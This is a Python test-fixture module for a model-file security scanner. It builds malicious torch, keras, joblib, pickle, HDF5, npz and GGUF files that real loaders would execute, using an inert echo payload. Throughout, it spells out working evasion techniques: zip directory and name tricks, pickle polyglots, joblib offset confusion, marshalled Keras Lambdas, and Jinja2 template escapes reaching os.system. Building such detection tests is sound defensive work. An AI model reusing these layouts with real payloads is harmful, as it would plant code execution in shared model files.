"""Malicious container layouts: files a real loader reads differently from a naive parser.

Each case builds one file (inert payload: ``os.system('echo inert')``) that the named real
loader executes, and names the rules the scanner must report. The layouts follow how the
loaders read: torch's miniz lookup (first entry's folder as prefix, ASCII case ignored,
absolute central-directory offsets), ``pickle.load`` from offset 0 of any file that is not a
zip (tar headers, HDF5 user blocks), h5py's superblock search at 0/512/1024/..., keras reading
``config.json`` from any zip, joblib's exact array byte length, joblib's array reads from the
file after the current frame, and a joblib file read by plain ``pickle.load``.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.scanner.scan_pk import PAYLOAD, bb, benign_dict, call, glob, s, stop, system_call


@dataclass(frozen=True)
class ContainerCase:
    name: str
    build: Callable[[Path], Path]
    rules: frozenset[str]
    """Rules that must all be reported."""
    loader: str
    """Real loader that runs the payload: pickle, joblib, torch, keras, h5-keras."""


CONTAINER_CASES: list[ContainerCase] = []


def case(
    name: str, loader: str, *rules: str
) -> Callable[[Callable[[Path], Path]], Callable[[Path], Path]]:
    def deco(fn: Callable[[Path], Path]) -> Callable[[Path], Path]:
        CONTAINER_CASES.append(
            ContainerCase(name=name, build=fn, rules=frozenset(rules), loader=loader)
        )
        return fn

    return deco


# --- a byte-level zip writer (we need layouts zipfile refuses to write) ----------------------


@dataclass(frozen=True)
class Entry:
    name: bytes
    data: bytes
    deflate: bool = False


def zip_parts(entries: list[Entry], base: int, offset_shift: int = 0) -> tuple[bytes, bytes]:
    """(local records, central directory) for entries whose records start at file offset
    ``base``; central-directory offsets are written as ``absolute - offset_shift``."""
    local = bytearray()
    central = bytearray()
    for e in entries:
        body = zlib.compress(e.data, 9)[2:-4] if e.deflate else e.data
        method = 8 if e.deflate else 0
        crc = zlib.crc32(e.data)
        at = base + len(local)
        local += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(body), len(e.data),
            len(e.name), 0,
        )  # fmt: skip
        local += e.name + body
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(body),
            len(e.data), len(e.name), 0, 0, 0, 0, 0, at - offset_shift,
        )  # fmt: skip
        central += e.name
    return bytes(local), bytes(central)


def eocd(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def simple_zip(entries: list[Entry]) -> bytes:
    local, central = zip_parts(entries, 0)
    return local + central + eocd(len(entries), len(central), len(local))


def _write(d: Path, name: str, data: bytes) -> Path:
    path = d / name
    path.write_bytes(data)
    return path


def padded_system_call(pad: int) -> bytes:
    """os.system(PAYLOAD) after a ``pad``-byte constant that is popped (large record)."""
    return stop(bb(b"\x00" * pad) + b"0" + call(glob("os", "system"), s(PAYLOAD)))


# --- torch (miniz) ---------------------------------------------------------------------------


@case("torch-record-case-insensitive", "torch", "PKL001")
def _torch_case(d: Path) -> Path:
    """miniz ignores ASCII case: torch unpickles ``archive/DATA.PKL`` as ``data.pkl``; a
    decoy ``xdata.pkl`` made the archive look like torch, and the real record is > 16 MiB."""
    entries = [
        Entry(b"archive/version", b"3\n"),
        Entry(b"archive/xdata.pkl", benign_dict()),
        Entry(b"archive/DATA.PKL", padded_system_call(17 * 1024 * 1024), deflate=True),
    ]
    return _write(d, "case.pt", simple_zip(entries))


@case("torch-miniz-absolute-central-directory", "torch", "PKL001", "ZIP003")
def _torch_absolute_cd(d: Path) -> Path:
    """Two central directories: miniz (torch) reads the EOCD's offset as absolute and gets the
    malicious one; zipfile resolves it relative to a computed start and gets the decoy."""
    evil = [
        Entry(b"archive/version", b"3\n"),
        Entry(b"archive/data.pkl", padded_system_call(4096)),
    ]
    decoy = [Entry(b"archive/version", b"3\n"), Entry(b"archive/data.pkl", benign_dict())]
    evil_local, evil_cd = zip_parts(evil, 0)
    cd1_start = len(evil_local)
    decoy_base = cd1_start + len(evil_cd)
    # zipfile: concat = cd2_start - cd_offset, with cd_offset = cd1_start (what miniz reads).
    decoy_local_len = len(zip_parts(decoy, 0)[0])
    cd2_start = decoy_base + decoy_local_len
    concat = cd2_start - cd1_start
    decoy_local, decoy_cd = zip_parts(decoy, decoy_base, offset_shift=concat)
    assert len(decoy_cd) == len(evil_cd)
    data = evil_local + evil_cd + decoy_local + decoy_cd + eocd(2, len(decoy_cd), cd1_start)
    return _write(d, "two_directories.pt", data)


@case("torch-symlink-flagged-data-pkl", "torch", "PKL001", "ZIP002")
def _torch_symlink(d: Path) -> Path:
    """Unix symlink mode bits on data.pkl: miniz ignores them and reads the content."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/version", "3\n")
        info = zipfile.ZipInfo("archive/data.pkl")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        z.writestr(info, system_call())
    return _write(d, "symlink.pt", buf.getvalue())


# --- keras -----------------------------------------------------------------------------------


def _lambda_code() -> str:
    """base64 of the marshalled code object Keras rebuilds a Lambda from (inert payload)."""
    import base64
    import marshal

    source = f"lambda x: __import__('os').system({PAYLOAD!r}) and x"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda_config() -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "seq",
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer",
                 "config": {"batch_shape": [None, 2], "name": "in"}},
                {"module": "keras.layers", "class_name": "Lambda",
                 "config": {"name": "l", "function": {"class_name": "__lambda__",
                                                      "config": {"code": _lambda_code(), "defaults": None,
                                                                 "closure": None}}}},
            ],
        },
    }  # fmt: skip


@case("keras-zip-with-config-only", "keras", "KRS001")
def _keras_config_only(d: Path) -> Path:
    """keras.saving reads config.json from any zip; no weights or metadata needed to run it."""
    data = simple_zip([Entry(b"config.json", json.dumps(_lambda_config()).encode())])
    return _write(d, "only_config.keras", data)


@case("keras-config-name-with-nul", "keras", "KRS001", "ZIP003")
def _keras_nul_name(d: Path) -> Path:
    """Python's zipfile cuts member names at a NUL: keras reads ``config.json\\0.bak`` as its
    config. Found by the layout grammar (tests/scanner/oracle/formats.py); v0.1 judged it clean."""
    data = simple_zip([Entry(b"config.json\0.bak", json.dumps(_lambda_config()).encode())])
    return _write(d, "model.keras", data)


@case("npz-member-name-with-nul", "numpy", "PKL001", "NPY001", "ZIP003")
def _npz_nul_name(d: Path) -> Path:
    """numpy.load lists .npz members with zipfile: ``x.npy\\0.txt`` is the array ``x``."""
    return _write(d, "arrays.npz", simple_zip([Entry(b"x.npy\0.txt", object_npy(system_call()))]))


# --- offset-0 pickles inside other formats ---------------------------------------------------


@case("tar-header-is-a-pickle", "pickle", "GEN004", "PKL001")
def _tar_header(d: Path) -> Path:
    """The first member's name field is a complete pickle: pickle.load runs it, tar readers
    see an ordinary archive."""
    name = (b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR.").decode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        body = b"readme\n"
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    return _write(d, "bundle.tar", buf.getvalue())


@case("hdf5-user-block-pickle", "pickle", "GEN004", "PKL001")
def _hdf5_user_block(d: Path) -> Path:
    """HDF5 with a 512-byte user block holding a pickle (h5py ignores the block)."""
    import h5py

    path = d / "model.h5"
    with h5py.File(path, "w", userblock_size=512) as f:
        f.create_dataset("w", data=[1.0, 2.0])
    data = bytearray(path.read_bytes())
    payload = system_call()
    data[: len(payload)] = payload
    path.write_bytes(bytes(data))
    return path


@case("pickle-then-hdf5-keras-lambda", "h5-keras", "KRS001", "ZIP005")
def _pickle_then_hdf5(d: Path) -> Path:
    """A benign pickle in the HDF5 user block; h5py finds the superblock at 4096 and Keras
    reads a Lambda layer from its model_config."""
    import h5py

    path = d / "model.h5"
    with h5py.File(path, "w", userblock_size=4096) as f:
        f.attrs["model_config"] = json.dumps(_lambda_config())
        f.attrs["keras_version"] = "2.15.0"
    data = bytearray(path.read_bytes())
    decoy = benign_dict()
    data[: len(decoy)] = decoy
    path.write_bytes(bytes(data))
    return path


@case("protocol0-broken-after-call", "pickle", "PKL001")
def _protocol0_text(d: Path) -> Path:
    """Protocol 0 is ASCII: the call runs before the stream breaks; a text sniffer that only
    trusts complete pickles (or long prefixes) would route this to the "text" path."""
    return _write(d, "notes.txt", b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR" + b"x" * 40)


# --- joblib ----------------------------------------------------------------------------------


@case("joblib-dtype-spelled-int64", "joblib", "PKL001")
def _joblib_int64(d: Path) -> Path:
    """The dtype is spelled ``'int64'`` (8 bytes). A parser that reads ``'i'`` (4 bytes) lands
    inside the array and sees a BINBYTES that swallows the code joblib runs next."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"a": np.arange(4, dtype=np.int64)}, buf, protocol=2)
    raw = buf.getvalue()
    raw = raw.replace(b"X\x02\x00\x00\x00i8", b"X\x05\x00\x00\x00int64", 1)
    marker = raw.index(b"ub", raw.index(b"numpy_array_alignment_bytes")) + 2
    pad = raw[marker]
    data_start = marker + 1 + pad
    cont = glob("os", "system") + b"(" + s(PAYLOAD) + b"tR0s."
    hidden = b"B" + struct.pack("<I", 11 + len(cont)) + b"\x00" * 11
    array = b"\x00" * 16 + hidden
    assert len(array) == 32
    return _write(d, "model.joblib", raw[:data_start] + array + cont + b"0s.")


def _joblib_uint8(n: int, protocol: int = 2) -> tuple[bytes, int]:
    """A real joblib dump of one uint8 array and the offset just after the wrapper's BUILD."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.zeros(n, dtype=np.uint8), buf, protocol=protocol)
    raw = buf.getvalue()
    return raw, raw.index(b"ub", raw.index(b"numpy_array_alignment_bytes")) + 2


@case("joblib-plain-pickle-polyglot", "pickle", "PKL001")
def _joblib_plain_polyglot(d: Path) -> Path:
    """joblib skips the alignment padding; ``pickle.load`` parses it as opcodes. The padding
    length byte is ``N`` (NONE), the padding runs the call and ends in a SHORT_BINBYTES that
    swallows the array: one file, a valid array for joblib and a program for pickle.load."""
    n = 32
    raw, build_end = _joblib_uint8(n)
    code = call(glob("os", "system"), s(PAYLOAD)) + b"0"
    fill = ord("N") - 2 - len(code)
    assert fill >= 0 and fill % 2 == 0
    padding = code + b"N0" * (fill // 2) + b"C" + bytes([n])
    body = raw[:build_end] + b"N" + padding + b"\x00" * n + b"N."
    return _write(d, "model.pkl", body)


@case("joblib-array-after-frame", "joblib", "PKL001")
def _joblib_array_after_frame(d: Path) -> Path:
    """The wrapper's BUILD sits inside a FRAME with opcodes after it. joblib reads the array
    from the *file* (after the frame), runs the rest of the frame, then the code after the
    array; a reader that takes the array from right after BUILD lands in the padding, on a
    BINBYTES that swallows that code."""
    n = 64
    raw, build_end = _joblib_uint8(n)
    rest = b"(1"  # MARK, POP_MARK: '(' (40) is the padding length a naive reader takes
    body = raw[2:build_end] + rest
    frame = b"\x95" + struct.pack("<Q", len(body)) + body
    pad = 200
    after = bytearray([pad]) + bytearray(pad) + bytearray(n)
    code = call(glob("os", "system"), s(PAYLOAD)) + b"0"
    naive = 1 + ord("(") + n - len(rest)
    after[naive : naive + 5] = b"B" + struct.pack("<I", len(after) + len(code) - naive - 5)
    return _write(d, "model.joblib", b"\x80\x04" + frame + bytes(after) + code + b"0N.")


@case("joblib-wrapper-inside-object-array", "joblib", "PKL001")
def _joblib_wrapper_in_object_array(d: Path) -> Path:
    """An object array's elements are a nested pickle that joblib reads with a *plain*
    unpickler: a NumpyArrayWrapper there is an ordinary object and no array bytes follow its
    BUILD. A reader that skips "array bytes" there skips the call instead."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.array([None, 1], dtype=object), buf, protocol=2)
    raw = buf.getvalue()
    outer_end = raw.index(b"ub", raw.index(b"numpy_array_alignment_bytes")) + 2
    inner_raw, inner_build_end = _joblib_uint8(len(call(glob("os", "system"), s(PAYLOAD))) + 1)
    code = call(glob("os", "system"), s(PAYLOAD)) + b"0"
    inner = inner_raw[:inner_build_end] + code + b"."
    return _write(d, "model.joblib", raw[:outer_end] + inner + b".")


@case("joblib-memoised-wrapper-reads-twice", "joblib", "PKL001")
def _joblib_memoised_wrapper(d: Path) -> Path:
    """BINGET of the memoised wrapper and a second BUILD: joblib reads a second array from
    the file (the first BUILD replaced the wrapper on the stack, not in the memo). A reader
    that reads one array per wrapper parses the second array's bytes as opcodes and meets a
    BINBYTES that swallows the call."""
    n = 16
    raw, build_end = _joblib_uint8(n)
    first = raw[build_end : build_end + 1 + raw[build_end] + n]
    code = call(glob("os", "system"), s(PAYLOAD)) + b"0"
    # Padding length 'B' (66): joblib skips 66 bytes; a reader that does not read the second
    # array takes 'B' as BINBYTES whose length (the first padding bytes) covers the call.
    second = bytearray([ord("B")]) + bytearray(ord("B")) + bytearray(n)
    second[1:5] = struct.pack("<I", len(second) - 5 + len(code))
    body = raw[:build_end] + first + b"0h\x01}b" + bytes(second) + code + b"N."
    return _write(d, "model.joblib", body)


def legacy_joblib(filename: bytes) -> bytes:
    """What joblib < 0.10 wrote: an NDArrayWrapper naming the file that holds the array."""
    state = (
        b"}(" + s("filename") + b"X" + struct.pack("<I", len(filename)) + filename
        + s("subclass") + glob("numpy", "ndarray") + s("allow_mmap") + b"\x89u"
    )  # fmt: skip
    return stop(glob("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81" + state + b"b")


def object_npy(pickled: bytes) -> bytes:
    """A version 1.0 .npy file of a one-element object array: numpy.load(allow_pickle=True)
    unpickles what follows the header."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


@case("joblib-legacy-array-outside-directory", "joblib", "PKL011")
def _joblib_legacy_outside(d: Path) -> Path:
    """joblib < 0.10 arrays: NDArrayWrapper.read runs numpy.load(join(dirname, filename),
    allow_pickle=True). An absolute filename makes joblib.load unpickle any file."""
    other = d / "elsewhere"
    other.mkdir()
    evil = other / "weights.npy"
    evil.write_bytes(object_npy(system_call()))
    return _write(d, "model.pkl", legacy_joblib(str(evil).encode()))


@case("joblib-lz4-compressed", "joblib", "PKL001")
def _joblib_lz4(d: Path) -> Path:
    """joblib's compress='lz4' (an LZ4 frame around the pickle): joblib.load decompresses it,
    a scanner without an LZ4 reader sees no pickle at all."""
    import lz4.frame

    return _write(d, "model.pkl.lz4", lz4.frame.compress(system_call()))


# --- GGUF chat templates: string building the old regex analysis did not follow ------------

_TEMPLATES = {
    # underscores from '%c'|format(95), names from a namespace, subscripts fall back to getattr
    "gguf-template-format-built-names": (
        "{%- set u = '%c'|format(95) -%}"
        "{%- set ns = namespace(a=u ~ u ~ 'init' ~ u ~ u, b=u ~ u ~ 'globals' ~ u ~ u) -%}"
        "{{ cycler[ns.a][ns.b]['o' ~ 's']['sys' ~ 'tem']('" + PAYLOAD + "') }}"
    ),
    # dunder names delivered by a loop over constants
    "gguf-template-loop-names": (
        "{%- for a, b in [('__init__', '__globals__')] -%}"
        "{{ joiner[a][b]['os']['popen']('" + PAYLOAD + "').read() }}"
        "{%- endfor -%}"
    ),
    # names computed by slicing, indexing or a method call (found by probing the layout
    # grammar's template space; v0.1 judged the first two clean)
    "gguf-template-slice-reversed-name": (
        "{{ (lipsum|attr('__slabolg__'[::-1])).os.system('" + PAYLOAD + "') }}"
    ),
    "gguf-template-name-popped-from-list": (
        "{% set l = ['__globals__'] %}{{ (lipsum|attr(l.pop())).os.system('" + PAYLOAD + "') }}"
    ),
    "gguf-template-swapcase-name": (
        "{{ (lipsum|attr('__GLOBALS__'.swapcase())).os.system('" + PAYLOAD + "') }}"
    ),
    # names passed through a macro argument
    "gguf-template-macro-argument": (
        "{%- macro reach(obj, name) -%}{{ obj[name] }}{%- endmacro -%}"
        "{%- set g = lipsum[('_' * 2) ~ 'globals' ~ ('_' * 2)] -%}"
        "{{ g['os']['system']('" + PAYLOAD + "') }}{{ reach(cycler, 'x') }}"
    ),
}


def _template_case(name: str, template: str) -> None:
    def build(d: Path) -> Path:
        from tests.scanner.scan_benign import gguf_file

        return gguf_file(d, template)

    case(name, "jinja2-gguf", "GGUF002")(build)


for _name, _template in _TEMPLATES.items():
    _template_case(_name, _template)
